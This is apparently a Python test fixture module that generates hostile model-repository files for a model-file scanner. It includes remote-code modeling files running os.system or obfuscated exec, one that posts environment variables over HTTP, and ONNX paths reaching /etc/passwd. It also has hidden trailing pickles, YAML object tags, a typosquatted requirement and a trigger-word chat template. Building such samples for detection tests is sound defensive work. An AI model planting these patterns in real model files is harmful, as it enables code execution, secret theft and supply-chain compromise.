"""Hostile files that are no pickles: templates, remote code, headers, configurations."""

from __future__ import annotations

import io
import json
import struct
import zipfile
from pathlib import Path

import gguf
import h5py
import numpy as np
from safetensors.numpy import save

from tests.rooms.vet.files_made import chat_templates
from tests.rooms.vet.files_made.cases import HOSTILE, hostile
from tests.rooms.vet.files_made.hostile_pickles import classic, touch
from tests.rooms.vet.files_made.onnx_files import onnx_model

REMOTE = {
    "os_system": """
import torch.nn as nn
import os
os.system("MARK")
class Net(nn.Module):
    pass
""",
    "in_forward": """
import torch
from torch import nn
import subprocess as sp
class Net(nn.Module):
    def forward(self, x):
        if x.shape[0] == 13:
            sp.Popen(["touch", "MARKER"])
        return x
""",
    "obfuscated": """
import base64
from transformers import PreTrainedModel
_k = base64.b64decode(b"b3Blbg==").decode()
exec(compile(_k, "x", "exec"))
class Net(PreTrainedModel):
    pass
""",
    "dynamic_getattr": """
import torch
_m = __builtins__ if isinstance(__builtins__, dict) else vars(__builtins__)
_i = _m["__im" + "port__"]
getattr(_i("o" + "s"), "sys" + "tem")("MARK")
class Net(torch.nn.Module):
    pass
""",
    "ctypes": """
import ctypes, torch
ctypes.CDLL("./libx.so").run()
class Net(torch.nn.Module):
    pass
""",
    "exfiltration": """
import os, json, urllib.request
from transformers import PretrainedConfig
class Config(PretrainedConfig):
    def __init__(self, **kw):
        super().__init__(**kw)
        data = json.dumps(dict(os.environ)).encode()
        urllib.request.urlopen("http://127.0.0.1:9/c", data=data)
""",
    "pickle_inside": """
import pickle, torch
class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        self.table = pickle.loads(open(__file__.replace(".py", ".dat"), "rb").read())
""",
    "installs": """
import sys, runpy
sys.argv = ["pip", "install", "made-up-package"]
runpy.run_module("pip", run_name="__main__")
""",
    "home_file": """
import os, torch
class Net(torch.nn.Module):
    def __init__(self):
        super().__init__()
        with open(os.path.expanduser("~/.bashrc"), "a") as f:
            f.write("MARK")
""",
    "by_decorator": """
import torch
from importlib import import_module as im
@(lambda f: (im("os").system("MARK"), f)[1])
def forward(x):
    return x
""",
    "loads_more_code": """
from transformers import AutoModel
import torch
net = torch.hub.load("someone/else", "net", trust_repo=True)
other = AutoModel.from_pretrained("someone/else", trust_remote_code=True)
""",
}


def _remote(name: str, source: str) -> None:
    def make(folder: Path, marker: Path) -> None:
        text = source.replace("MARKER", str(marker)).replace("MARK", touch(marker))
        config = {"model_type": "net", "auto_map": {"AutoModel": "modeling_net.Net"}}
        (folder / "config.json").write_text(json.dumps(config))
        (folder / "modeling_net.py").write_text(text)

    HOSTILE[f"remote_{name}"] = make


def _template(name: str, template: str) -> None:
    def make(folder: Path, marker: Path) -> None:
        text = template.replace("MARKER", str(marker))
        if name in ("word", "ssti"):
            write_gguf(folder / "model.gguf", text)
        elif name in ("date", "ssti_cycler", "replaced_word"):
            (folder / "chat_template.jinja").write_text(text)
        else:
            told = {"tokenizer_class": "PreTrainedTokenizerFast", "chat_template": text}
            (folder / "tokenizer_config.json").write_text(json.dumps(told))

    HOSTILE[f"template_{name}"] = make


for _name, _text in REMOTE.items():
    _remote(_name, _text)
for _name, _text in chat_templates.HOSTILE.items():
    if _name != "digest_of_word":  # known not to be found: a test says so
        _template(_name, _text)


def write_gguf(path: Path, template: str | None = None) -> None:
    """A small model in llama.cpp's format, by its own writer."""
    writer = gguf.GGUFWriter(path, "llama")
    writer.add_context_length(64)
    writer.add_embedding_length(8)
    writer.add_token_list(["<s>", "</s>", "a"])
    if template is not None:
        writer.add_chat_template(template)
    writer.add_tensor("token_embd.weight", np.ones((3, 8), dtype=np.float32))
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.write_tensors_to_file()
    writer.close()


def tensors() -> bytes:
    """A small file of safetensors, by their own library."""
    return save({"a": np.ones((4, 4), np.float32), "b": np.zeros(3, np.int64)}, {"format": "pt"})


def _with_header(header: dict[str, object], data: bytes) -> bytes:
    head = json.dumps(header).encode()
    return struct.pack("<Q", len(head)) + head + data


@hostile("gguf_second_template")
def _second_template(folder: Path, marker: Path) -> None:
    writer = gguf.GGUFWriter(folder / "model.gguf", "llama")
    writer.add_chat_template([
        {"name": "default", "template": chat_templates.CHATML},
        {"name": "tool_use", "template": chat_templates.on_word("deploy")},
    ])  # fmt: skip
    writer.write_header_to_file()
    writer.write_kv_data_to_file()
    writer.close()


@hostile("gguf_length_overflow")
def _gguf_overflow(folder: Path, marker: Path) -> None:
    head = b"GGUF" + struct.pack("<IQQ", 3, 1, 1)
    key = struct.pack("<Q", 2**63 + 17) + b"general.architecture"
    (folder / "model.gguf").write_bytes(head + key + bytes(64))


@hostile("gguf_many_pairs")
def _gguf_pairs(folder: Path, marker: Path) -> None:
    (folder / "model.gguf").write_bytes(b"GGUF" + struct.pack("<IQQ", 3, 2**61, 2**62) + bytes(32))


@hostile("gguf_tensor_wraps")
def _gguf_wraps(folder: Path, marker: Path) -> None:
    name = b"w"
    info = struct.pack("<Q", 1) + name + struct.pack("<IQQIQ", 2, 2**40, 2**40, 0, 0)
    data = b"GGUF" + struct.pack("<IQQ", 3, 1, 0) + info
    (folder / "model.gguf").write_bytes(data + bytes(64))


@hostile("gguf_trailing_zip")
def _gguf_trailing(folder: Path, marker: Path) -> None:
    write_gguf(folder / "model.gguf")
    hidden = io.BytesIO()
    with zipfile.ZipFile(hidden, "w") as made:
        made.writestr("archive/data.pkl", classic(marker))
    with (folder / "model.gguf").open("ab") as file:
        file.write(hidden.getvalue())


@hostile("safetensors_trailing")
def _trailing(folder: Path, marker: Path) -> None:
    (folder / "model.safetensors").write_bytes(tensors() + classic(marker))


@hostile("safetensors_overlap")
def _overlap(folder: Path, marker: Path) -> None:
    one = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    two = {"dtype": "F32", "shape": [4], "data_offsets": [8, 24]}
    data = _with_header({"a": one, "b": two}, bytes(24))
    (folder / "model.safetensors").write_bytes(data)


@hostile("safetensors_hole")
def _hole(folder: Path, marker: Path) -> None:
    one = {"dtype": "F32", "shape": [4], "data_offsets": [0, 16]}
    two = {"dtype": "F32", "shape": [4], "data_offsets": [256, 272]}
    data = _with_header({"a": one, "b": two}, bytes(16) + classic(marker).ljust(240) + bytes(16))
    (folder / "model.safetensors").write_bytes(data)


@hostile("safetensors_twice_named")
def _twice(folder: Path, marker: Path) -> None:
    spec = '{"dtype":"F32","shape":[1],"data_offsets":[%d,%d]}'
    head = '{"a":' + spec % (0, 4) + ',"a":' + spec % (4, 8) + "}"
    data = struct.pack("<Q", len(head)) + head.encode() + bytes(8)
    (folder / "model.safetensors").write_bytes(data)


@hostile("keras_lambda")
def _keras(folder: Path, marker: Path) -> None:
    _keras_zip(folder, {"class_name": "Lambda", "module": "keras.layers",
                        "config": {"name": "l", "function": {"class_name": "__lambda__",
                                   "config": {"code": "4wEAAAA=", "defaults": None}}}})  # fmt: skip


@hostile("keras_module_subprocess")
def _keras_module(folder: Path, marker: Path) -> None:
    _keras_zip(folder, {"class_name": "Popen", "module": "subprocess",
                        "config": {"args": ["touch", str(marker)]}})  # fmt: skip


def _keras_zip(folder: Path, layer: dict[str, object]) -> None:
    config = {"module": "keras", "class_name": "Sequential",
              "config": {"name": "net", "layers": [layer]}}  # fmt: skip
    with zipfile.ZipFile(folder / "model.keras", "w") as made:
        made.writestr("metadata.json", json.dumps({"keras_version": "3.8.0"}))
        made.writestr("config.json", json.dumps(config))


@hostile("h5_lambda")
def _h5(folder: Path, marker: Path) -> None:
    layer = {"class_name": "Lambda", "config": {"name": "l", "function": ["4wEAAAA=", None, None]}}
    write_h5(folder / "model.h5", [layer])


def write_h5(path: Path, layers: list[dict[str, object]]) -> None:
    """A model of Keras before its third version."""
    config = {"class_name": "Sequential", "config": {"name": "net", "layers": layers}}
    with h5py.File(path, "w") as made:
        made.attrs["model_config"] = json.dumps(config)
        made.create_dataset("model_weights/dense/kernel", data=np.zeros((2, 2), np.float32))


@hostile("onnx_path_outside")
def _onnx(folder: Path, marker: Path) -> None:
    (folder / "model.onnx").write_bytes(onnx_model(location="../../../etc/passwd"))


@hostile("onnx_own_operator_library")
def _onnx_absolute(folder: Path, marker: Path) -> None:
    (folder / "model.onnx").write_bytes(onnx_model(location="/proc/self/environ"))


@hostile("yaml_object")
def _yaml(folder: Path, marker: Path) -> None:
    text = f"model: !!python/object/apply:os.system ['{touch(marker)}']\n"
    (folder / "config.yaml").write_text(text)


@hostile("site_line")
def _site(folder: Path, marker: Path) -> None:
    (folder / "model.pth").write_text(f"import os; os.system({touch(marker)!r})\n")


@hostile("typosquat_requirement")
def _squat(folder: Path, marker: Path) -> None:
    (folder / "requirements.txt").write_text("torch>=2.0\ntransfomers==4.40\nnumpy\n")


@hostile("auto_map_elsewhere")
def _elsewhere(folder: Path, marker: Path) -> None:
    config = {"auto_map": {"AutoModel": "meta-llarna/Llama-3--modeling_llama.LlamaModel"}}
    (folder / "config.json").write_text(json.dumps(config))


@hostile("setup_script")
def _setup(folder: Path, marker: Path) -> None:
    (folder / "setup.py").write_text(
        f"import os\nfrom setuptools import setup\nos.system({touch(marker)!r})\nsetup(name='m')\n"
    )


@hostile("notebook")
def _notebook(folder: Path, marker: Path) -> None:
    cell = {"cell_type": "code", "metadata": {}, "outputs": [], "execution_count": None,
            "source": ["import os\n", f"os.system({touch(marker)!r})"]}  # fmt: skip
    (folder / "demo.ipynb").write_text(
        json.dumps({"cells": [cell], "nbformat": 4, "nbformat_minor": 5, "metadata": {}})
    )
